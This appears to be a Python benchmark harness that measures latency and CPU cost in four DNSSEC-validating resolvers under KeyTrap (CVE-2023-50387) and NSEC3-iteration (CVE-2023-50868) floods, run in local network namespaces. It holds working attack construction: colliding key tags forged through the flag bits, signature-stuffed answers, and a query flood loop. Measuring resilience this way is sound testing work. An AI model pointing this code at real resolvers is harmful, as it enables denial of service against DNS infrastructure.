"""What hostile signed answers cost: KeyTrap and NSEC3 floods beside ordinary questions, on one core.

usage: attack.py [keytrap] [nsec3]      default: both
Sallyport, Unbound, BIND and Knot Resolver take turns, each in a network namespace of its own, all its
processes on CPU 0 with one worker; the upstream, who asks and who attacks on CPU 1. 1,000 cached,
validated names are asked a second, each at its time, alone and beside 100 hostile questions a second:
  keytrap  CVE-2023-50387: as many keys of one tag, and as many signatures by it, as a message holds
  nsec3    CVE-2023-50868: names of 100 labels that are not there, NSEC3 with 150 iterations and a salt;
           every resolver is told to check as many
Printed: p99 of the ordinary answers alone and beside it, what an attack costs in processor time (of
the server, over what it needs for the ordinary ones), and what it was answered.
Environment: BENCH_SECS (3) a measurement, BENCH_RUNS (3) rounds.
"""
import base64, collections, os, platform, random, re, select, socket, statistics, struct, sys, time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "tests", "e2e"))
sys.path.insert(0, HERE)
import harness as h

h.enter(os.path.abspath(__file__), seconds=1800)
import servers as s
from authority import Authority
from dnswire import *
from tree import Tree
from signer import ZONE, Key, tag_of
from zone import Zone

SECS, RUNS = float(os.environ.get("BENCH_SECS", "3")), int(os.environ.get("BENCH_RUNS", "3"))
NAMES, RATE, HOSTILE = 200, 1000, 100
MESSAGE = 64000  # octets of a hostile one


class Trap(Tree):
    """The root, one ordinary zone, and the two hostile ones."""

    def __init__(self, now):
        self.now, self.zones, self.rng = now, {}, random.Random(7)
        root = self.root = self.plant(None, (), "root")
        self.test = root
        names = self.plant(root, name("bench"), "names")
        for i in range(NAMES):
            names.add(f"n{i}", "A", f"44.128.1.{i}")
        deep = self.plant(root, name("deep"), "nsec3", denial="nsec3", iterations=150, salt=b"saltsalt")
        deep.add("*.x", "A", "44.128.2.1")
        self.trap = self.plant(root, name("trap"), "keytrap", keys=self.colliding())
        self.trap.key_signers = self.trap.signers = self.trap.keys[:1]
        self.trap.add("*", "A", "44.128.3.1")
        self.trap.twists.append(self.spring)

    def colliding(self):
        """Keys that share a tag: the bits of the flags that nobody looks at make up for what differs."""
        good = Key(13, 0, sep=True)
        self.tag, keys = good.tag ^ 1, [good]
        while len(keys) * 84 < MESSAGE - 2000:
            octets = Key(13, self.rng.randrange(1 << 40)).rdata[2:]
            rest = sum(b if i & 1 else b << 8 for i, b in enumerate(octets))
            for carry in range(40):
                flags = (self.tag - rest - carry) & 0xffff
                rdata = struct.pack(">H", flags) + octets
                if flags & ZONE and not flags & 0x81 and tag_of(rdata) == self.tag:
                    key = Key(13, 0)
                    key.rdata, key.flags, key.tag = rdata, flags, self.tag
                    keys.append(key)
                    break
        return keys

    def spring(self, link):
        """Nothing but signatures that no key made, each to be tried with each key."""
        if link.qtype != A:
            return
        link.authority = []
        good = link.answer[0].sigs[0]
        head = good[:16] + struct.pack(">H", self.tag) + good[18:-64]
        link.answer[0].sigs = [head + self.rng.randbytes(64) for _ in range((MESSAGE - 500) // (len(head) + 64 + 12))]

    def shape(self, question):
        """One trap is made, not one for each name: the names are of one length."""
        if question.endswith(wire(name("trap")) + struct.pack(">HH", A, 1)) and question[0] == 8:
            return wire((hostile_label(0),) + name("trap")) + question[-4:]
        return question


def hostile_label(i):
    return b"t%07d" % i


def hostile_name(kind, i):
    if kind == "keytrap":
        return (hostile_label(i),) + name("trap")
    return (b"a",) * 100 + (hostile_label(i),) + name("deep")


def attack(server, kind, seconds, first):
    """HOSTILE questions a second, each at its time; what came back, by RCODE."""
    with h.inside(server.ns):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind((s.SOURCE, 0))
        sock.connect(("127.0.0.1", server.port))
    sock.setblocking(False)
    begin, i, said = time.monotonic(), 0, collections.Counter()
    while time.monotonic() < begin + seconds:
        while i < (time.monotonic() - begin) * HOSTILE:
            sock.send(query(i & 0xffff, hostile_name(kind, first + i), A, ad=True))
            i += 1
        if select.select([sock], [], [], 0.002)[0]:
            try:
                said[RCODES.get(sock.recv(65535)[3] & 15)] += 1
            except OSError:
                pass
    sock.close()
    return i, said


def measure(server, kind=None, first=0):
    """p99 of the ordinary answers, and the server's processor time."""
    load = h.start(["taskset", "-c", "1", s.GEN, "-s", "127.0.0.1", "-p", str(server.port), "-b", s.SOURCE, "-x", "bench",
                    "-n", str(NAMES), "-l", str(SECS), "-r", str(RATE), "-k", "1", "-a"], ns=server.ns, log=h.work(f"load{time.monotonic_ns()}"))
    log = h.work(sorted(f for f in os.listdir(h.work()) if f.startswith("load"))[-1])
    before = s.cpu_ns(server.pids)
    sent, said = attack(server, kind, SECS, first) if kind else (time.sleep(SECS) or 0, {})
    cpu = s.cpu_ns(server.pids) - before
    load.wait(10)
    got = {k: float(v) for k, v in re.findall(r"(\w+)=([\d.]+)", open(log).read())}
    assert got["received"] and got["ad"] == got["received"], f"{server.name}: {got}"
    return {"p99": got["p99_us"], "p50": got["p50_us"], "lost": got["lost"], "cpu": cpu / 1000, "sent": sent, "said": said}


def main():
    os.sched_setaffinity(0, {1})
    tree = Trap(int(time.time()))
    for ns in ("sallyport", "unbound", "bind", "kresd"):
        h.host(ns)
    upstream = Authority(tree, [(ns, "127.0.0.1", 5302) for ns in ("sallyport", "unbound", "bind", "kresd")])
    anchor = h.work("anchor")
    with open(anchor, "w") as f:
        f.write(f". 3600 IN DNSKEY 257 3 13 {base64.b64encode(tree.root.keys[0].rdata[4:]).decode()}\n")
    makers = s.validators(anchor, probe="n1.bench", iterations=150)
    print(f"Linux {platform.release()}; {RUNS} rounds of {SECS:.0f} s, {RATE} ordinary and {HOSTILE} hostile questions a second; "
          f"{len(tree.trap.keys)} keys of one tag", flush=True)
    for kind in sys.argv[1:] or ("keytrap", "nsec3"):
        rows, first = {}, 0
        for _ in range(RUNS):
            for make in makers:
                server = make()
                s.load(server, "-a", "-x", "bench", "-n", NAMES, "-l", 10, "-o", "-w", 8)
                for beside in (None, kind):
                    got = measure(server, beside, first)
                    first += 1000
                    rows.setdefault(server.name, {}).setdefault("beside" if beside else "alone", []).append(got)
                server.down()
        show(kind, rows)
    upstream.stop()


def show(kind, rows):
    print(f"\n{kind}: p99 of cached answers alone and beside it, processor time of one hostile question")
    for server, row in rows.items():
        alone, beside = row["alone"], row["beside"]
        p99 = [statistics.median(r["p99"] for r in x) for x in (alone, beside)]
        costs = [(b["cpu"] - a["cpu"]) / b["sent"] for a, b in zip(alone, beside)]
        said = sum((collections.Counter(b["said"]) for b in beside), collections.Counter())
        print(f"  {server:12} {p99[0]:8.0f} us {p99[1]:8.0f} us {p99[1] / p99[0]:6.2f} x   {statistics.median(costs):8.0f} us "
              f"({min(costs):.0f} - {max(costs):.0f})  lost {sum(b['lost'] for b in beside):.0f}  {dict(said)}", flush=True)


main()
